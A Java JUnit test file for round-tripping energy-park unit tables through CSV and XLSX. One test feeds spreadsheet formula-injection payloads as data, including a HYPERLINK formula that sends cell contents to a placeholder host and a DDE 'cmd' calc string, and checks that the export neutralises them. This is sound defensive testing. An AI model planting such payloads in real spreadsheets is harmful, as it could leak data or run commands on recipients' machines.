package org.parkwright.core.table;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import org.eclipse.emf.ecore.util.EcoreUtil;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.parkwright.core.Models;
import org.parkwright.core.fault.Faults;
import org.parkwright.model.park.EipModel;
import org.parkwright.model.park.EnergyPlant;
import org.parkwright.model.park.EnergyUnit;
import org.parkwright.model.park.Fuel;

/** A list that is read and written again says the same, whatever is in it, as CSV and as XLSX. */
class UnitRoundTripTest extends UnitListTest {

	/** Every optional column, a column of the user's, quoting, line ends, blank cells, numbers to the last digit. */
	private static final String FULL = """
			# synthetic, "not real"
			# second line
			id,park,utility,fuel,output,tech,cls,capacity_mw,hpr,vintage,lifetime,hours,efficiency_effective,latitude,longitude,name,status,description,owner
			U2,K1,P1,ng,CHP,CCGT,small,0.30000000000000004,0.9,2005,25.5,5500.25,0.5,31.5,121.5,"Unit ""two"", new",planned,"one,
			two = 2",
			U10,"K, 2","P ""x"" y",,E,,mid,200,0.0,,30,,,,,,retired,,"a=b
			c\\d, ""e"" f"
			U11,"K, 2",P3,solar,H,BOILER,large,300,0.0,1999,30,,,-33.125,0,,,"note",中国
			""";

	@ParameterizedTest
	@ValueSource(strings = { "csv", "xlsx" })
	void nothingIsLost(String ending) throws IOException {
		EipModel model = read(FULL);
		Path out = folder.resolve("out." + ending);
		UnitTable.write(model, out);
		EipModel again = UnitTable.read(out, ImportOptions.DEFAULT.withModelName("units"), faults);
		assertTrue(EcoreUtil.equals(model, again));
		Path last = folder.resolve("last.csv");
		UnitTable.write(again, last);
		assertEquals(FULL.replace("\"note\"", "note"), Files.readString(last));
	}

	@Test
	void aTextThatNoCellOfAWorkbookHoldsIsToldAndGoesIntoACsvFile() throws IOException {
		EipModel model = read(FULL);
		((EnergyPlant) model.getParks().get(0).getInfrastructure().get(0)).getUnits().get(0).setName("a".repeat(40_000));
		Path workbook = folder.resolve("out.xlsx");
		String message = assertThrows(IOException.class, () -> UnitTable.write(model, workbook)).getMessage();
		assertTrue(message.contains("a text of 40,000 characters"), message);
		assertTrue(Files.notExists(workbook));
		UnitTable.write(model, folder.resolve("out.csv"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "csv", "xlsx" })
	void whatASpreadsheetWouldTakeForAFormulaIsReadAsItWas(String ending) throws IOException {
		String park = "=HYPERLINK(\"http://a.example/?\"&A1)";
		EipModel model = Models.model();
		model.setDataNote("a note, =1+1;\t@SUM(A1), 3, -4 and '=5");
		EnergyPlant plant = Models.plant(Models.park(model, park), "'+cmd|' /C calc'!A0");
		EnergyUnit unit = Models.unit(plant, "U1");
		unit.setName("@SUM(1)");
		unit.setDescription("-1+1");
		Path out = folder.resolve("out." + ending);
		UnitTable.write(model, out);
		if (ending.equals("csv")) {
			assertTrue(Files.readAllLines(out).stream().flatMap(line -> Stream.of(line.split("[,;\t]", -1)))
					.noneMatch(cell -> cell.replace("\"", "").matches(" *[=+@-].*") && !cell.matches("-?[\\d.]+")));
		}
		EipModel again = UnitTable.read(out, ImportOptions.DEFAULT.withModelName("units"), faults);
		assertEquals(List.of(), texts());
		EnergyPlant plantAgain = (EnergyPlant) again.getParks().get(0).getInfrastructure().get(0);
		assertEquals(model.getDataNote(), again.getDataNote());
		assertEquals(park, again.getParks().get(0).getName());
		assertEquals(plant.getName(), plantAgain.getName());
		assertEquals("@SUM(1)", plantAgain.getUnits().get(0).getName());
		assertEquals("-1+1", plantAgain.getUnits().get(0).getDescription());
	}

	@Test
	void aUnitWithoutCoordinatesIsWrittenWithThoseOfItsPlant() throws IOException {
		String header = HEADER.replace("\n", ",latitude,longitude\n");
		String first = ROW.replace("\n", ",31.5,121.5\n");
		String second = ROW.replace("U1", "U2");
		assertEquals(header + first + second.replace("\n", ",31.5,121.5\n"),
				written(sound(header + first + second.replace("\n", ",,\n"))));
	}

	@Test
	void columnsThatNoUnitFillsAreLeftOut() throws IOException {
		assertEquals(HEADER + ROW, written(sound(HEADER.replace("\n", ",hours,name\n") + ROW.replace("\n", ",,\n"))));
	}

	@Test
	void numberedUnitsAreInTheOrderOfTheirNumbers() throws IOException {
		String two = ROW.replace("U1", "U2");
		String ten = ROW.replace("U1,K1,P1", "U10,K2,P2");
		assertEquals(HEADER + ROW + two + ten, written(sound(HEADER + ten + two + ROW)));
	}

	@Test
	void unitsWithoutNumbersStayInTheOrderOfTheModel() throws IOException {
		String list = HEADER + ROW.replace("U1", "north") + ROW.replace("U1", "east");
		assertEquals(list, written(sound(list)));
	}

	@Test
	void idsThatXmiCannotHoldComeBack() throws IOException {
		String list = HEADER + ROW.replace("U1", "boiler 1/a %20").replace("K1", "Kalundborg: harbour");
		EipModel model = sound(list);
		assertEquals("boiler%201%2Fa%20%2520", only(model).getId());
		assertEquals(list, written(model));
	}

	@Test
	void aModelMadeByHandIsWritten() throws IOException {
		EipModel model = Models.model();
		EnergyPlant plant = Models.plant(Models.park(model, "K1"), "P1");
		plant.setName(null);
		EnergyUnit unit = Models.unit(plant, "U1");
		Fuel own = org.parkwright.model.park.ParkFactory.eINSTANCE.createFuel();
		own.setName("straw");
		model.getLibrary().getFuels().add(own);
		unit.setFuel(own);
		unit.setHeatToPower(0.0);
		assertEquals(HEADER + "U1,K1,plant.P1,straw,CHP,EC,small,50,0.0,2005,30\n", written(model));
	}

	@Test
	void aModelWithoutUnitsGivesAHeader() throws IOException {
		assertEquals(HEADER, written(Models.model()));
	}

	@Test
	void anOlderFileStaysIfTheListCannotBeWritten() throws IOException {
		EipModel model = sound(HEADER + ROW);
		only(model).setCapacity(Double.POSITIVE_INFINITY);
		Path out = Files.writeString(folder.resolve("out.csv"), "mine");
		assertThrows(IllegalArgumentException.class, () -> UnitTable.write(model, out));
		assertEquals("mine", Files.readString(out));
		try (Stream<Path> files = Files.list(folder)) {
			assertEquals(List.of("out.csv", "units.csv"), files.map(file -> file.getFileName().toString()).sorted().toList());
		}
	}

	@Test
	void readingTwiceGivesTheSameModel() throws IOException {
		Path file = file(FULL);
		assertTrue(EcoreUtil.equals(UnitTable.read(file, ImportOptions.DEFAULT, new Faults()),
				UnitTable.read(file, ImportOptions.DEFAULT, new Faults())));
	}

	private String written(EipModel model) throws IOException {
		Path out = folder.resolve("out.csv");
		UnitTable.write(model, out);
		return Files.readString(out);
	}
}
